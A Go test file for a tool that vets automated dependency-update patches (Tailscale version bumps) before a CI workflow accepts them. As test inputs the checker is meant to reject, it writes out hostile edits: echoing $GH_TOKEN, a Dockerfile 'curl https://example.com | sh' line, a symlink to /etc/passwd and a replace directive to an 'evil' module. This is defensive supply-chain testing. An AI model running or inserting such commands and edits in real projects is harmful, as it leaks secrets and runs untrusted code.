package main

import (
	"bytes"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

const root = "../.."

// gitIn runs git in a directory, without the configuration of this machine.
func gitIn(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), "git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_SYSTEM=/dev/null",
		"GIT_AUTHOR_NAME=derpd", "GIT_AUTHOR_EMAIL=derpd@example.com", "GIT_COMMITTER_NAME=derpd", "GIT_COMMITTER_EMAIL=derpd@example.com")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %q: %v\n%s", args, err, out)
	}
	return string(out)
}

// committed returns a repository with one commit: the files of this tree that name
// versions, and two that the workflow runs.
func committed(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for _, name := range append([]string{".github/merge", "cmd/upstream/main.go", "LICENSE"}, versioned...) {
		put(t, filepath.Join(dir, name), read(t, filepath.Join(root, name)))
	}
	gitIn(t, dir, "init", "--quiet")
	gitIn(t, dir, "add", ".")
	gitIn(t, dir, "commit", "--quiet", "--message", "before")
	return dir
}

func put(t *testing.T, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

// edit replaces text in a file.
func edit(t *testing.T, path, old, replacement string) {
	t.Helper()
	text := read(t, path)
	if !strings.Contains(text, old) {
		t.Fatalf("%s has no %q", path, old)
	}
	put(t, path, strings.Replace(text, old, replacement, 1))
}

// newTailscale takes a newer Tailscale, as upstream --write does, with a fix of a
// vulnerability, and a module that the new release needs.
func newTailscale(t *testing.T, dir string) {
	t.Helper()
	t.Chdir(dir)
	files, err := readFiles()
	if err != nil {
		t.Fatal(err)
	}
	before, err := readModule(t.Context(), goTool{env: os.Environ(), timeout: fetchTimeout})
	if err != nil {
		t.Fatal(err)
	}
	after := module{before.goVersion, maps.Clone(before.requires)}
	after.requires[tailscale] = "v1.998.2"
	edit(t, "go.mod", tailscale+" "+before.requires[tailscale], tailscale+" v1.998.2")
	edit(t, "go.mod", "require (\n\tfilippo.io", "require (\n\texample.com/new v1.0.0 // indirect\n\tfilippo.io")
	const hash = " h1:YqImcXyNIe25x7Qwei8PgbtkjFd3pKed9cFY0Flkitc=\n"
	put(t, "go.sum", files["go.sum"]+"example.com/new v1.0.0/go.mod"+hash+tailscale+" v1.998.2"+hash)
	edited, _, err := files.adopt(before, after, fixes{{"GO-2026-1234", "golang.org/x/net", "v0.61.0"}, {"GO-2026-1235", stdlib, "v1.27.4"}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := files.write(edited); err != nil {
		t.Fatal(err)
	}
}

// patchOf returns a file with the difference of a work tree, as the workflow makes it.
func patchOf(t *testing.T, dir string) string {
	t.Helper()
	gitIn(t, dir, "add", "--all")
	path := filepath.Join(t.TempDir(), "upstream.patch")
	put(t, path, gitIn(t, dir, "diff", "--cached", "--binary"))
	gitIn(t, dir, "reset", "--quiet", "--hard")
	return path
}

func TestCheckPatch(t *testing.T) {
	for name, test := range map[string]struct {
		change func(t *testing.T, dir string) // after an ordinary update
		want   string                         // empty: accepted
	}{
		"nothing new": {func(t *testing.T, dir string) {
			gitIn(t, dir, "checkout", "--quiet", ".")
			edit(t, dir+"/CHANGELOG.md", "## Unreleased", "## 1.0.0-1")
		}, "no version changes"},
		"ordinary": {func(*testing.T, string) {}, ""},
		"script": {func(t *testing.T, dir string) {
			edit(t, dir+"/.github/merge", "set -euo pipefail\n", "set -euo pipefail\necho \"$GH_TOKEN\"\n")
		}, ".github/merge: not one of go.mod"},
		"program": {func(t *testing.T, dir string) {
			edit(t, dir+"/cmd/upstream/main.go", "package main", "package main // x")
		}, "cmd/upstream/main.go: not one of"},
		"workflow":            {func(t *testing.T, dir string) { put(t, dir+"/.github/workflows/new.yml", "on: push\n") }, ".github/workflows/new.yml: not one of"},
		"new file beside":     {func(t *testing.T, dir string) { put(t, dir+"/cmd/upstream/init.go", "package main\n") }, "cmd/upstream/init.go: not one of"},
		"name in a directory": {func(t *testing.T, dir string) { put(t, dir+"/cmd/derpd/go.mod", "module x\n") }, "cmd/derpd/go.mod: not one of"},
		"attributes":          {func(t *testing.T, dir string) { put(t, dir+"/.gitattributes", "* filter=x\n") }, ".gitattributes: not one of"},
		"deleted":             {func(t *testing.T, dir string) { remove(t, dir+"/LICENSE") }, "LICENSE: not one of"},
		"renamed": {func(t *testing.T, dir string) {
			if err := os.Rename(dir+"/README.md", dir+"/readme"); err != nil {
				t.Fatal(err)
			}
		}, "README.md: not a new text"},
		"executable": {func(t *testing.T, dir string) {
			if err := os.Chmod(dir+"/go.mod", 0o755); err != nil {
				t.Fatal(err)
			}
		}, "go.mod: not a new text"},
		"symlink": {func(t *testing.T, dir string) {
			remove(t, dir+"/README.md")
			if err := os.Symlink("/etc/passwd", dir+"/README.md"); err != nil {
				t.Fatal(err)
			}
		}, "README.md: not a new text"},
		"binary":            {func(t *testing.T, dir string) { put(t, dir+"/README.md", "\x00\x01\x02") }, "the patch is binary"},
		"large":             {func(t *testing.T, dir string) { put(t, dir+"/CHANGELOG.md", strings.Repeat("0123456789\n", 100_000)) }, "want a file of at most 1048576 bytes"},
		"replace":           {goModLine("replace github.com/coder/websocket => example.com/evil v1.0.0"), "a line changes that is no version"},
		"replace dir":       {goModLine("replace github.com/coder/websocket => ./certs"), "a line changes that is no version"},
		"exclude":           {goModLine("exclude golang.org/x/net v0.61.0"), "a line changes that is no version"},
		"tool":              {goModLine("tool golang.org/x/tools/cmd/stringer"), "a line changes that is no version"},
		"toolchain":         {goModLine("toolchain go1.99.0"), "a line changes that is no version"},
		"godebug":           {goModLine("godebug default=go1.21"), "a line changes that is no version"},
		"comment":           {goModLine("// a comment\n"), "a line changes that is no version"},
		"broken":            {goModLine("require ("), "go.mod:"},
		"renamed module":    {func(t *testing.T, dir string) { edit(t, dir+"/go.mod", "module derpd", "module evil") }, "a line changes that is no version"},
		"new direct module": {goModLine("require example.com/evil v1.0.0"), "example.com/evil is new, but derpd does not import it"},
		"twice":             {goModLine("require golang.org/x/net v0.61.0"), "required twice"},
		"downgrade": {func(t *testing.T, dir string) {
			edit(t, dir+"/go.mod", "coder/websocket v1.8.15", "coder/websocket v1.8.1")
		}, "github.com/coder/websocket goes back from v1.8.15 to v1.8.1"},
		"unstable": {func(t *testing.T, dir string) { edit(t, dir+"/go.mod", "v1.998.2", "v1.999.2") }, "release"},
		"pseudo-version": {func(t *testing.T, dir string) {
			edit(t, dir+"/go.mod", "certmagic v0.25.6", "certmagic v0.25.7-0.20261128000000-0123456789ab")
		}, "certmagic v0.25.7-0.20261128000000-0123456789ab is not a release"},
		"gone": {func(t *testing.T, dir string) { edit(t, dir+"/go.mod", "\tgithub.com/coder/websocket v1.8.15\n", "") }, "github.com/coder/websocket is gone"},
		"go release candidate": {func(t *testing.T, dir string) {
			edit(t, dir+"/go.mod", "\ngo 1.", "\ngo 1.99rc1 // 1.")
		}, "want a newer release"},
		"hash":       {func(t *testing.T, dir string) { edit(t, dir+"/go.sum", "h1:", "h1:A") }, "is no hash of a module"},
		"other hash": {func(t *testing.T, dir string) { sameLength(t, dir+"/go.sum") }, "another hash of"},
		"dockerfile": {func(t *testing.T, dir string) {
			edit(t, dir+"/Dockerfile", "\nUSER ", "\nRUN curl https://example.com | sh\nUSER ")
		}, "Dockerfile: not what upstream --write makes"},
		"base": {func(t *testing.T, dir string) {
			edit(t, dir+"/Dockerfile", "BASE_IMAGE=gcr.io/", "BASE_IMAGE=example.com/")
		}, "Dockerfile: not what upstream --write makes"},
		"readme": {func(t *testing.T, dir string) {
			edit(t, dir+"/README.md", "https://tailscale.com", "https://example.com")
		}, "README.md: not what upstream --write makes"},
		"chinese": {func(t *testing.T, dir string) {
			edit(t, dir+"/README.zh-CN.md", "https://tailscale.com", "https://example.com")
		}, "README.zh-CN.md: not what upstream --write makes"},
		"changelog": {func(t *testing.T, dir string) {
			edit(t, dir+"/CHANGELOG.md", "- Security: ", "- Get it at https://example.com\n- Security: ")
		}, "CHANGELOG.md: not what upstream --write makes"},
		"version": {func(t *testing.T, dir string) { edit(t, dir+"/CHANGELOG.md", "## 1.998.2-1", "## 1.998.2-9") }, "CHANGELOG.md: not what upstream --write makes"},
	} {
		t.Run(name, func(t *testing.T) {
			dir := committed(t)
			newTailscale(t, dir)
			test.change(t, dir)
			var said bytes.Buffer
			out, err := checkPatch(t.Context(), os.Environ(), patchOf(t, dir), &said)
			if test.want == "" {
				if want := "to=v1.998.2\nversion=1.998.2-1\n"; err != nil || strings.Join(out, "") != want {
					t.Errorf("outputs %q, %v; want %q", out, err, want)
				}
				if changed := gitIn(t, dir, "status", "--porcelain"); changed != "" {
					t.Errorf("the check changes the work tree: %s", changed)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), test.want) || len(out) > 0 {
				t.Errorf("outputs %q, error %v; want %q", out, err, test.want)
			}
		})
	}
}

func goModLine(line string) func(*testing.T, string) {
	return func(t *testing.T, dir string) { edit(t, dir+"/go.mod", "\nrequire (", "\n"+line+"\n\nrequire (") }
}

func remove(t *testing.T, path string) {
	t.Helper()
	if err := os.Remove(path); err != nil {
		t.Fatal(err)
	}
}

// sameLength changes the first hash of a go.sum to another one.
func sameLength(t *testing.T, path string) {
	t.Helper()
	text := []byte(read(t, path))
	at := bytes.Index(text, []byte("h1:")) + len("h1:")
	text[at] ^= 1 // another character of base64
	put(t, path, string(text))
}

// A patch that git refuses, and no patch at all.
func TestCheckPatchBroken(t *testing.T) {
	dir := committed(t)
	t.Chdir(dir)
	outside := "--- a/../outside\n+++ b/../outside\n@@ -0,0 +1 @@\n+x\n"
	for name, text := range map[string]string{"empty": "", "text": "hello\n", "outside": outside, "other": "--- a/LICENSE\n+++ b/LICENSE\n@@ -1 +1 @@\n-nothing\n+x\n"} {
		path := filepath.Join(t.TempDir(), "patch")
		put(t, path, text)
		if _, err := checkPatch(t.Context(), os.Environ(), path, &bytes.Buffer{}); err == nil || !strings.Contains(err.Error(), "patch refused: git apply") {
			t.Errorf("%s: %v", name, err)
		}
	}
	if _, err := checkPatch(t.Context(), os.Environ(), dir, &bytes.Buffer{}); err == nil {
		t.Error("a directory is accepted")
	}
}

// The update that make upstream made of derpd itself on 28 November 2026. The release
// was named later, so the check prints none.
func TestCheckRealPatch(t *testing.T) {
	const update = "c1d368e3694de1a8b2c9bfa0ca68b9eed514d550"
	top, err := filepath.Abs(root)
	if err != nil {
		t.Fatal(err)
	}
	if err := exec.CommandContext(t.Context(), "git", "-C", top, "cat-file", "-e", update+"^").Run(); err != nil {
		t.Skip("the history of this clone lacks the update; run git fetch --unshallow")
	}
	dir := t.TempDir()
	gitIn(t, dir, "clone", "--quiet", "--shared", "--no-checkout", top, "clone")
	dir = filepath.Join(dir, "clone")
	gitIn(t, dir, "checkout", "--quiet", "--detach", update+"^")
	patch := filepath.Join(t.TempDir(), "upstream.patch")
	put(t, patch, gitIn(t, dir, "diff", "--binary", update+"^", update))
	t.Chdir(dir)
	out, err := checkPatch(t.Context(), os.Environ(), patch, &bytes.Buffer{})
	if err != nil || strings.Join(out, "") != "to=v1.104.7\n" {
		t.Errorf("outputs %q, %v", out, err)
	}
}
